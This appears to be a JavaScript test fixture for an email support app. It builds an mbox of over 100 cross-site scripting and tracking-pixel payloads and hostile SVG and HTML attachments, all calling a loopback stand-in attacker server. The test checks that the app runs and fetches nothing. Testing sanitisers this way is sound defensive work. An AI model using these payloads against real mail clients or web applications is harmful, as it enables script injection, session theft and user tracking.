// Hostile customer mail for the app e2e: 100+ XSS and tracking vectors, wrapped as an mbox the CLI
// imports through the real parse + ingest path. Every vector that would run script reports to a loopback
// "attacker" server and bumps `top.__xss`; every vector that would fetch points at that server too. The
// test passes only if, with every message opened in the real app, the server saw nothing and the page
// counter stayed unset.

/** The vectors, with ATTACK standing for the attacker server's base URL and RUN for script to run. */
const TEMPLATES = [
  "<script>RUN</script>",
  "<SCRIPT SRC=ATTACK/x.js></SCRIPT>",
  "<script/src=ATTACK/y.js></script>",
  "<img src=x onerror=\"RUN\">",
  "<img src=\"javascript:RUN\">",
  "<img src=ATTACK/p.gif width=1 height=1>",
  "<img src=\"ATTACK/q.gif\" alt=\"pixel\">",
  "<img srcset=\"ATTACK/a.png 1x, ATTACK/b.png 2x\">",
  "<picture><source srcset=ATTACK/pic.webp><img src=ATTACK/pic.png></picture>",
  "<body onload=\"RUN\">",
  "<svg onload=\"RUN\">",
  "<svg><script>RUN</script></svg>",
  "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
  "<svg><image href=ATTACK/svgimg.png /></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\">",
  "<iframe src=ATTACK/frame></iframe>",
  "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
  "<object data=ATTACK/x.swf></object>",
  "<embed src=ATTACK/x.swf>",
  "<a href=\"javascript:RUN\">click</a>",
  "<a href=\"JaVaScRiPt:RUN\">click</a>",
  "<a href=\"&#106;avascript:RUN\">click</a>",
  "<a href=\"java\tscript:RUN\">click</a>",
  "<a href=\"vbscript:msgbox(1)\">click</a>",
  "<a href=\"data:text/html,<script>RUN</script>\">click</a>",
  "<form action=ATTACK/form><input name=q value=1><button>go</button></form>",
  "<meta http-equiv=refresh content=\"0;url=ATTACK/refresh\">",
  "<base href=ATTACK/>",
  "<link rel=stylesheet href=ATTACK/x.css>",
  "<link rel=prefetch href=ATTACK/prefetch>",
  "<style>@import 'ATTACK/import.css';</style>",
  "<style>body{background:url(ATTACK/bg.gif)}</style>",
  "<div style=\"background:url(ATTACK/bg2.gif)\">x</div>",
  "<div style=\"background-image:url('ATTACK/bg3.gif')\">x</div>",
  "<div style=\"width:expression(RUN)\">x</div>",
  "<p onmouseover=\"RUN\">hover</p>",
  "<details open ontoggle=\"RUN\">",
  "<video><source onerror=\"RUN\"></video>",
  "<video poster=ATTACK/poster.jpg></video>",
  "<video src=ATTACK/v.mp4 autoplay></video>",
  "<audio src=x onerror=\"RUN\">",
  "<audio src=ATTACK/a.mp3 autoplay></audio>",
  "<input autofocus onfocus=\"RUN\">",
  "<input type=image src=ATTACK/input.png>",
  "<marquee onstart=\"RUN\">x</marquee>",
  "<table background=ATTACK/t.gif><tr><td>x</td></tr></table>",
  "<td background=ATTACK/td.gif>x</td>",
  "<img src=\"x\" /onerror=\"RUN\">",
  "<img\nsrc=x\nonerror=\"RUN\">",
  "<<script>RUN//<</script>",
  "<scr<script>ipt>RUN</scr</script>ipt>",
  "<!--<script>RUN</script>-->",
  "<![CDATA[<script>RUN</script>]]>",
  "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
  "<template><script>RUN</script></template>",
  "<object type=text/html data=\"javascript:RUN\"></object>",
  "<isindex action=javascript:RUN type=image>",
  "<img src=cid:ok@x onerror=\"RUN\">",
  "<svg><a xlink:href=\"javascript:RUN\"><text>x</text></a></svg>",
  "<x onclick=\"RUN\">custom</x>",
  "<div onpointerenter=\"RUN\">x</div>",
  "<button formaction=javascript:RUN>x</button>",
  "<img src=x:alert(1) onerror=eval(src)>",
  "\"><script>RUN</script>",
  "<body background=ATTACK/body.gif>",
  "<img dynsrc=ATTACK/dyn.avi lowsrc=ATTACK/low.gif>",
  "<bgsound src=ATTACK/sound.wav>",
  "<frameset><frame src=ATTACK/frame2></frameset>",
  "<applet code=x archive=ATTACK/x.jar></applet>",
  "<portal src=ATTACK/portal></portal>",
  "<style>@font-face{font-family:x;src:url(ATTACK/font.woff)}</style>",
  "<div style=\"list-style-image:url(ATTACK/list.png)\">x</div>",
  "<div style=\"cursor:url(ATTACK/cursor.cur),auto\">x</div>",
  "<a ping=ATTACK/ping href=https://shop.example/>shop</a>",
  "<img src=x onerror=\"fetch('ATTACK/fetch')\">",
  "<script>new Image().src='ATTACK/img-js'</script>",
  "<svg><use href=\"ATTACK/sprite.svg#x\"/></svg>",
  "<svg><foreignObject><iframe src=ATTACK/fo></iframe></foreignObject></svg>",
  "<math href=\"javascript:RUN\">x</math>",
  "<keygen autofocus onfocus=\"RUN\">",
  "<select autofocus onfocus=\"RUN\"><option>x</option></select>",
  "<textarea autofocus onfocus=\"RUN\">x</textarea>",
  "<iframe src=\"javascript:RUN\"></iframe>",
  "<iframe src=\"data:text/html,<script>RUN</script>\"></iframe>",
  "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
  "<embed src=\"data:image/svg+xml,<svg onload='RUN'/>\">",
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
  "<a href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">svg</a>",
  "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
  "<meta http-equiv=\"set-cookie\" content=\"x=1\">",
  "<div id=x tabindex=1 onfocusin=\"RUN\">x</div>",
  "<style>*{x:expression(RUN)}</style>",
  "<div style=\"-moz-binding:url(ATTACK/xbl.xml#x)\">x</div>",
  "<div style=\"behavior:url(ATTACK/x.htc)\">x</div>",
  "<img src=`x` onerror=\"RUN\">",
  "<img src='x'onerror=\"RUN\">",
  "<img/src=x/onerror=\"RUN\">",
  "<svg/onload=\"RUN\">",
  "<body/onpageshow=\"RUN\">",
  "<a href=\"  javascript:RUN\">lead space</a>",
  "<a href=\"java&#x0A;script:RUN\">newline entity</a>",
  "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:RUN\">long entity</a>",
  "<div><p>unclosed <b>markup <i>everywhere<table><tr><td><img src=ATTACK/broken.gif",
  "</textarea><script>RUN</script>",
  "</title><script>RUN</script>",
  "<plaintext><script>RUN</script>",
  "<xmp><script>RUN</script></xmp>",
];

/** The vectors for an attacker server at `attack` (e.g. http://127.0.0.1:5555). */
export function vectors(attack) {
  const run = `top.__xss=(top.__xss||0)+1;fetch('${attack}/ran')`;
  return TEMPLATES.map((t) => t.replaceAll("ATTACK", attack).replaceAll("RUN", run));
}

/** Base64 in 76-character lines, as MIME wants it. */
function base64Lines(text) {
  return Buffer.from(text, "utf8").toString("base64").replace(/.{76}(?=.)/g, "$&\n");
}

/** An mbox of `perMessage` vectors per message, plus one message with an SVG and an HTML attachment. */
export function hostileMbox(attack, perMessage = 10) {
  const all = vectors(attack);
  const messages = [];
  for (let i = 0; i * perMessage < all.length; i++) {
    const html = `<html><body><p>Probe ${i + 1}: my order AUR-900${i} is late.</p>${all
      .slice(i * perMessage, (i + 1) * perMessage)
      .join("\n<p>--</p>\n")}<p>Thanks</p></body></html>`;
    messages.push(
      [
        `From mallory${i}@attacker.example Mon Nov 23 10:00:00 2026`,
        `From: Mallory ${i + 1} <mallory${i}@attacker.example>`,
        "To: support@aurora.example",
        `Subject: XSS probe #${String(i + 1).padStart(2, "0")}`,
        `Message-ID: <xss-${i}@attacker.example>`,
        "Date: Mon, 23 Nov 2026 10:00:00 +0000",
        "MIME-Version: 1.0",
        `Content-Type: multipart/alternative; boundary="b${i}"`,
        "",
        `--b${i}`,
        "Content-Type: text/plain; charset=utf-8",
        "",
        `Probe ${i + 1}`,
        `--b${i}`,
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        base64Lines(html),
        `--b${i}--`,
        "",
      ].join("\n"),
    );
  }
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${vectors(attack)[0].slice(8, -9)}"><image href="${attack}/att.png"/></svg>`;
  const page = `<html><body><script>fetch('${attack}/html-attachment')</script><img src="${attack}/html-att.gif"></body></html>`;
  messages.push(
    [
      "From mallory-files@attacker.example Mon Nov 23 10:05:00 2026",
      "From: Mallory Files <mallory-files@attacker.example>",
      "To: support@aurora.example",
      "Subject: XSS probe attachments",
      "Message-ID: <xss-files@attacker.example>",
      "Date: Mon, 23 Nov 2026 10:05:00 +0000",
      "MIME-Version: 1.0",
      'Content-Type: multipart/mixed; boundary="mix"',
      "",
      "--mix",
      "Content-Type: text/html; charset=utf-8",
      "",
      `<p>See the attached invoice.</p><img src="cid:logo@x">`,
      "--mix",
      'Content-Type: image/svg+xml; name="invoice.svg"',
      'Content-Disposition: inline; filename="invoice.svg"',
      "Content-ID: <logo@x>",
      "Content-Transfer-Encoding: base64",
      "",
      base64Lines(svg),
      "--mix",
      'Content-Type: text/html; name="invoice.html"',
      'Content-Disposition: attachment; filename="invoice.html"',
      "Content-Transfer-Encoding: base64",
      "",
      base64Lines(page),
      "--mix--",
      "",
    ].join("\n"),
  );
  return { mbox: messages.join("\n"), vectorCount: all.length, messageCount: messages.length };
}
